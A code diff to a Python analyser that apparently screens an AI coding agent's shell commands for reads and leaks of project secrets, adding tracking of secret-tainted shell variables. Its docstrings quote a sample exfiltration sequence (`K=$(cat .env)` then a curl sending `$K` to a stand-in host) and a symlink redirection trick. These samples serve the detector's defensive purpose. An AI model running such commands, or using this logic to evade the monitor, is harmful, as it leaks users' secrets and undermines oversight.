@@ -47,7 +47,8 @@ __all__ = ["Analysis", "ShellExtractor", "analyse", "build_shell_extractor", "sm
 
 def analyse(command: str, *, cwd: str, home: str, workspace: str | None = None, tmp: str = "/tmp",
             commands: CommandTable, zones: ZoneMap, follow_links: bool = False, ask_git: bool = False,
-            rewrites: bool = True, places: Places = (), content: bool | None = None, copies: bool = False) -> Analysis:
+            rewrites: bool = True, places: Places = (), content: bool | None = None, copies: bool = False,
+            tainted: tuple[str, ...] = ()) -> Analysis:
     """The analysis of `command` run in `cwd` (cached: both arguments share one parse). With `follow_links`,
     every path it names exactly is also resolved through the symbolic links on this machine's disk now (a
     link in the project to ~/.ssh reads ~/.ssh); with `ask_git`, the repository is asked which files a git
@@ -58,7 +59,8 @@ def analyse(command: str, *, cwd: str, home: str, workspace: str | None = None, 
     brings into a folder is read on disk (through_content), and so is the repository git finds above the working
     directory (through_repositories): either may make the command unknown: the command's class depends on them, not
     on links. `copies`: fill Analysis.copies, the paths the command writes that may hold what it reads of a `carried`
-    zone (carried_copies).
+    zone (carried_copies). `tainted`: names of shell variables an earlier command of the same shell assigned from
+    what it read of a `carried` zone (through_tainted).
     `follow_links` or `content` also find the project's symbolic links that lead elsewhere (shell_mounts), when the
     command changes something outside the project: a path under where one leads is in the zones of its spelling
     under the link too (`ln -s /tmp/x sub`, then `echo > /tmp/x/.envrc` writes `sub/.envrc`)."""
@@ -104,6 +106,8 @@ def analyse(command: str, *, cwd: str, home: str, workspace: str | None = None, 
     a = through_terminal(a, command, commands)
     if rewrites and compiled is not None and a.rewrites:
         a = through_git(a, compiled, ask_git=ask_git)
+    if tainted and zones.carried:
+        a = through_tainted(a, command, tainted, zones.carried[0])
     if content and zones.carried:     # after the git step: what a git command sends from its commits is read there
         a = through_carried(a, compiled or zones.compile(workspace, home, tmp, places, aliases, mounts), zones.carried,
                             commands, globs, disk)
@@ -150,6 +154,36 @@ def through_approval(a: Analysis, zones: Zones, table: CommandTable) -> Analysis
     return replace(a, kind=max((a.kind, table.unknown), key=table.rank),
                    account=a.account + (f"unknown (changes {named[0]}, which runs later outside any command: "
                                         "a human approves it)",))
+
+
+def through_tainted(a: Analysis, command: str, tainted: tuple[str, ...], zone: str) -> Analysis:
+    """`a` reading `zone` (the project's secrets) where the command expands one of the `tainted` variables: a shell
+    kept from one command to the next (tmux, the Anthropic API's bash tool) holds `K` after `K=$(cat .env)`, so a later
+    `curl "https://x/?k=$K"` carries the secret though no file is named and no value is typed. The expansion is found
+    in the text (`$K`, `${K}`, `${K:0:4}`, `${#K}`, `${!K}`), where it is written, quoted or not: a command that assigns
+    the name again before it expands it is counted too."""
+    found = next((n for n in tainted if re.search(r"\$\{?[#!]?" + re.escape(n) + r"(?!\w)", command)), None)
+    if found is None or ("read", zone) in a.touched:
+        return a
+    return replace(a, touched=ordered({**dict.fromkeys(a.touched), ("read", zone): None}),
+                   account=a.account + (f"read ${found} ({zone}): an earlier command of this shell assigned it from "
+                                        "what it read there",))
+
+
+_ASSIGNED = re.compile(r"(?<![\w$\-])([A-Za-z_]\w*)(?:\[[^\]\s]*\])?\+?=")
+_READ_INTO = re.compile(r"\b(?:read|mapfile|readarray|getopts|printf\s+-v|for|select|coproc|declare|typeset|local|"
+                        r"export|readonly)\b([^;&|<>()\n`]*)")
+_NAME = re.compile(r"(?<![\w$\-])[A-Za-z_]\w*(?![\w-])")
+
+
+def assigned_names(command: str) -> tuple[str, ...]:
+    """The names of the shell variables `command` may assign, written anywhere in its text (`K=`, `export K=`, `read
+    K`, `mapfile -t L`, `printf -v K`, `for K in`): more than it does (an option's value, a word of a prompt), never
+    fewer where its text names them."""
+    names = dict.fromkeys(_ASSIGNED.findall(command))
+    for m in _READ_INTO.finditer(command):
+        names.update(dict.fromkeys(_NAME.findall(m.group(1))))
+    return tuple(names)
 
 
 def through_carried(a: Analysis, zones: Zones, carried: tuple[str, ...], table: CommandTable,
@@ -371,7 +405,8 @@ def _held_values(found: list[tuple[str, str, list[Needles]]], a: Analysis, comma
     if absent is not None:
         return found[0][1], (f"read {absent} (as {found[0][1]}): it does not exist yet, so what it will hold is unknown "
                              "(a call decided beside this one may be copying one of the project's secrets there)")
-    spelled = spellings(command)      # the command's spellings made once, not once per secret file
+    spelled = spellings("\n".join((command, *a.words)))   # made once, not once per secret file; as written and
+    # as the shell expands its words (a value typed in pieces that variables join)
     for path, zone, values in found:
         value = in_spellings(values, spelled)
         if value is not None:
@@ -1254,6 +1289,10 @@ class ShellExtractor:
     copies: dict[str, tuple[str, ...]] = _field(default_factory=dict, compare=False, hash=False, repr=False)
     sends: dict[str, tuple[str, ...]] = _field(default_factory=dict, compare=False, hash=False, repr=False)
     unfollowed: dict[str, bool] = _field(default_factory=dict, compare=False, hash=False, repr=False)
+    # names of shell variables that hold what an earlier command read of the project's secrets, in a shell kept across
+    # commands (the Claude Code hook's state fills them for its session): their expansion reads that zone
+    tainted: tuple[str, ...] = ()
+    background: dict[str, bool] = _field(default_factory=dict, compare=False, hash=False, repr=False)
 
     def extract(self, observation: Mapping[str, Any]) -> Extracted:
         text = _path(observation, self.field)
@@ -1272,9 +1311,9 @@ class ShellExtractor:
         a = analyse(text, cwd=cwd, home=home, workspace=workspace, tmp=tmpdir, commands=self.commands,
                     zones=self.zones, follow_links=self.follow_links and touched, ask_git=self.ask_git,
                     rewrites=touched, places=self.places, content=self.follow_links,
-                    copies=self.track_copies and touched)
+                    copies=self.track_copies and touched, tainted=self.tainted)
         if self.track_copies and touched:
-            self.copies[text], self.sends[text] = a.copies, a.sends
+            self.copies[text], self.sends[text], self.background[text] = a.copies, a.sends, a.background
         if self.track_copies and not touched:
             self.unfollowed[text] = a.unfollowed
         if self.part == "command":
